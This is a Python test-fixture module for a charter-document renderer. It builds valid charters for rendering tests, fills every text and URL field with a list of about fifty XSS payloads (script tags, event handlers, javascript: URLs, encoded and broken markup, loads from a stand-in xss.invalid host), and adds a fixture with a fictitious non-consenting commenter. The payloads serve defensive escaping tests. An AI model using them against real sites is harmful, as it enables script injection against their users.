"""Chartas the render tests draw: hostile text in every field, fifty principles, privacy.

Built in Python from the model, so that every text field can carry a payload
while the charta stays valid (ids are kebab-case, references resolve).
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import attrs

from charta.model import (
    Adoption,
    Assertion,
    Basis,
    Charta,
    ChartaKind,
    Comment,
    Commenter,
    Confidence,
    Consultation,
    CoveredElsewhere,
    Decision,
    Derivation,
    Issuer,
    Item,
    ItemKind,
    Knowledge,
    MergedAway,
    Omission,
    PartialDate,
    PartOf,
    Provenance,
    Reference,
    Relation,
    Response,
    RevisedField,
    Revision,
    Status,
)

# Kinds of vector catalogued by the OWASP XSS Filter Evasion Cheat Sheet
# (script tags, event handlers, javascript: and data: URLs, encodings, broken
# markup, CSS and style breakouts, SVG, attribute breakouts), written here for
# this test.  Each one must show as text and none may run.
PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.invalid/x.js></SCRIPT>",
    '"><script>alert(2)</script>',
    "'><script>alert(3)</script>",
    '"><img src=x onerror=alert(4)>',
    "<img src=x onerror=alert(5)>",
    '<IMG SRC="javascript:alert(6);">',
    "<IMG SRC=javascript:alert(7)>",
    "<IMG SRC=JaVaScRiPt:alert(8)>",
    "<IMG SRC=`javascript:alert(9)`>",
    '<IMG """><SCRIPT>alert(10)</SCRIPT>">',
    "<IMG SRC=/ onerror=alert(11)></img>",
    "<img src=x:alert(12) onerror=eval(src)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#51;&#41;>",
    '<IMG SRC="jav&#x09;ascript:alert(14);">',
    "<svg/onload=alert(15)>",
    "<svg><script>alert(16)</script></svg>",
    "<body onload=alert(17)>",
    "<iframe src=javascript:alert(18)></iframe>",
    '<iframe srcdoc="<script>alert(19)</script>"></iframe>',
    "<object data=javascript:alert(20)></object>",
    "<embed src=javascript:alert(21)>",
    '<a href="javascript:alert(22)">klick</a>',
    "javascript:alert(23)",
    "JaVaScRiPt:alert(24)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyNSk8L3NjcmlwdD4=",
    "vbscript:msgbox(26)",
    "</style><script>alert(27)</script>",
    "</title><script>alert(28)</script>",
    "</textarea><script>alert(29)</script>",
    "<style>@import 'https://xss.invalid/x.css';</style>",
    '<div style="background:url(javascript:alert(31))">x</div>',
    '<div style="width: expression(alert(32));">x</div>',
    "<input autofocus onfocus=alert(33)>",
    "<details open ontoggle=alert(34)>",
    "<marquee onstart=alert(35)>",
    "<video><source onerror=alert(36)></video>",
    "<audio src=x onerror=alert(37)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(38)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(39)'>",
    "<base href=https://xss.invalid/>",
    "<link rel=stylesheet href=https://xss.invalid/x.css>",
    "<form action=javascript:alert(42)><button>x</button></form>",
    "{{ 7*7 }} {% raw %}",
    "${alert(44)}",
    "<!--<script>alert(45)</script>-->",
    "<![CDATA[<script>alert(46)</script>]]>",
    "&lt;script&gt;alert(47)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(48)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(49)%3C/script%3E",
    "<scr<script>ipt>alert(50)</scr</script>ipt>",
    '<a href=" &#14;  javascript:alert(51)">x</a>',
    '<img src="x` `<script>alert(52)</script>"` `>',
    "@all ![x](javascript:alert(53)) [y](javascript:alert(54)) | # ~~ **",
)

_SOURCE = "smart-city-charta"
_LEITBILDER = [f"leitbild-{n}" for n in range(1, 9)]


def _cycle() -> Iterator[str]:
    return itertools.cycle(PAYLOADS)


def hostile() -> Charta:
    """A valid local charta with a payload in every text field (and every URL field)."""
    p = _cycle()
    items = []
    for n in range(12):
        old, new = f"Alt {next(p)}", f"Neu {next(p)}"
        items.append(
            Item(
                id=f"grundsatz-{n + 1}",
                label=next(p) if n % 3 == 0 else str(n + 1),
                title=next(p),
                kind=ItemKind.LEITMOTIV,
                text=new,
                summary=next(p) if n % 4 == 0 else "",
                locator=next(p) if n % 5 == 0 else "",
                addressee=next(p) if n % 6 == 0 else "",
                knowledge=Knowledge.INFERRED if n % 2 else Knowledge.VERIFIED,
                note=next(p),
                derived_from=(
                    Derivation(
                        ref=Reference(charta=_SOURCE, item=_LEITBILDER[n % 8]),
                        relation=list(Relation)[n % len(Relation)],
                        confidence=Confidence.MEDIUM,
                        asserted_by=Assertion.ISSUER if n % 2 else Assertion.RECORD_KEEPER,
                        stated_at=next(p) if n % 2 else "",
                        note=next(p),
                    ),
                ),
                revisions=(
                    Revision(
                        field=RevisedField.TEXT,
                        before=old,
                        after=new,
                        date=PartialDate(2020, 11, 9),
                        reason=next(p),
                        caused_by=(f"kommentar-{n + 1}",),
                        note=next(p),
                    ),
                ),
            )
        )
    comments = tuple(
        Comment(
            id=f"kommentar-{n + 1}",
            target=Reference(item=f"grundsatz-{n + 1}"),
            text=next(p),
            commenter=Commenter(pseudonym=next(p), consent_to_publish=False),
            note=next(p),
        )
        for n in range(12)
    )
    responses = tuple(
        Response(
            id=f"antwort-{n + 1}",
            comment=f"kommentar-{n + 1}",
            by=next(p),
            text=next(p),
            decision=Decision.ACCEPTED,
            note=next(p),
        )
        for n in range(12)
    )
    return Charta(
        id="feindselig",
        title=next(p),
        kind=ChartaKind.LOCAL,
        language="de",
        issuer=Issuer(body=next(p), office=next(p)),
        edition=next(p),
        status=Status.ADOPTED,
        adoption=Adoption(body=next(p), paper=next(p), url="javascript:alert(99)", note=next(p)),
        part_of=PartOf(title=next(p), locator=next(p), urls=("javascript:alert(98)",)),
        introduction=f"{next(p)}\n\n{next(p)}",
        provenance=Provenance(
            urls=("javascript:alert(97)", "https://example.invalid/ok", next(p)),
            rights=next(p),
            license="CC0-1.0",
            attribution=next(p),
            note=next(p),
        ),
        based_on=(
            Basis(
                source=Reference(charta=_SOURCE),
                cited_as=next(p),
                asserted_by=Assertion.ISSUER,
                stated_at=next(p),
                note=next(p),
            ),
        ),
        items=tuple(items),
        omissions=(Omission(ref=Reference(charta=_SOURCE, item="leitlinie-4"), reason=next(p)),),
        covered_elsewhere=(
            CoveredElsewhere(
                ref=Reference(charta=_SOURCE, item="leitlinie-1"),
                where=next(p),
                url="javascript:alert(96)",
                asserted_by=Assertion.ISSUER,
                stated_at=next(p),
            ),
        ),
        consultation=Consultation(
            start=PartialDate(2020, 10, 23),
            end=PartialDate(2020, 11, 8),
            url="javascript:alert(95)",
            comments=comments,
            responses=responses,
            note=next(p),
        ),
        note=next(p),
    )


LONG_WORDS = (
    "Grundstücksverkehrsgenehmigungszuständigkeitsübertragungsverordnung",
    "Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz",
    "Digitalisierungsinfrastrukturbereitstellungsvereinbarungsentwurf",
    "Verwaltungsdienstleistungsportalbarrierefreiheitsanforderungen",
)


def fifty() -> Charta:
    """Fifty principles with long compound words, against both built-in sources."""
    items = []
    for n in range(50):
        word = LONG_WORDS[n % len(LONG_WORDS)]
        items.append(
            Item(
                id=f"leitmotiv-{n + 1}",
                label=str(n + 1),
                title=f"{word} Nummer {n + 1}",
                kind=ItemKind.LEITMOTIV,
                text=f"Die {word} der Stadt gilt für alle. " * 3,
                derived_from=(
                    Derivation(
                        ref=Reference(charta=_SOURCE, item=_LEITBILDER[n % 8]),
                        relation=list(Relation)[n % len(Relation)],
                        confidence=Confidence.HIGH,
                        asserted_by=Assertion.RECORD_KEEPER,
                    ),
                )
                if n % 7
                else (),
            )
        )
    return Charta(
        id="fuenfzig",
        title=f"Leitlinien der {LONG_WORDS[2]}",
        kind=ChartaKind.LOCAL,
        issuer=Issuer(body="Gemeinde Musterhausen"),
        status=Status.DRAFT,
        based_on=(Basis(source=Reference(charta=_SOURCE), asserted_by=Assertion.ISSUER),),
        items=tuple(items),
    )


PRIVATE_NAME = "Quast"
PRIVATE_FIRST = "Wiebke"
PRIVATE_EMAIL = "wiebke.quast@example.org"


def with_private_commenter(charta: Charta) -> Charta:
    """``charta`` with a commenter who did not consent, named in the texts around it."""
    full = f"{PRIVATE_FIRST} {PRIVATE_NAME}"
    first = charta.items[0]
    comment = Comment(
        id="kommentar-privat",
        target=Reference(item=first.id),
        text=f"Ich, {full} ({PRIVATE_EMAIL}), bitte um eine Ergänzung.",
        commenter=Commenter(
            name=full, email=PRIVATE_EMAIL, pseudonym="Bürger*in B", consent_to_publish=False
        ),
    )
    response = Response(
        id="antwort-privat",
        comment="kommentar-privat",
        by="Amt für Digitalisierung",
        text=f"Sehr geehrte Frau {PRIVATE_NAME}, danke. Antwort an {PRIVATE_EMAIL}.",
        decision=Decision.NOTED,
    )
    cons = charta.consultation or Consultation()
    item = attrs.evolve(first, note=f"Auf Anregung von Frau {PRIVATE_NAME} geprüft.")
    gone = MergedAway(
        id="eingebracht",
        title=f"Vorschlag von {full}",
        text=f"Wie {full} ({PRIVATE_EMAIL}) schrieb.",
        merged_into=first.id,
        reason=f"Auf Wunsch von Frau {PRIVATE_NAME}",
        caused_by=("kommentar-privat",),
        note=f"Von {PRIVATE_EMAIL}.",
    )
    return attrs.evolve(
        charta,
        items=(item, *charta.items[1:]),
        merged_away=(*charta.merged_away, gone),
        consultation=attrs.evolve(
            cons,
            comments=(*cons.comments, comment),
            responses=(*cons.responses, response),
        ),
        note=f"{charta.note} Hinweis von {full}, {PRIVATE_EMAIL}.",
    )


def hostile_consultation() -> Charta:
    """:func:`hostile` with a consultation of one comment a payload: its text, its
    commenter's pseudonym, the answer's author and text are each that payload."""
    base = hostile()
    comments = tuple(
        Comment(
            id=f"kommentar-{n + 1}",
            target=Reference(item=f"grundsatz-{n % 12 + 1}"),
            text=payload,
            commenter=Commenter(pseudonym=payload),
        )
        for n, payload in enumerate(PAYLOADS)
    )
    responses = tuple(
        Response(
            id=f"antwort-{n + 1}",
            comment=f"kommentar-{n + 1}",
            by=payload,
            text=payload,
            decision=list(Decision)[n % len(Decision)],
        )
        for n, payload in enumerate(PAYLOADS)
    )
    cons = attrs.evolve(base.consultation or Consultation(), comments=comments, responses=responses)
    return attrs.evolve(base, consultation=cons)
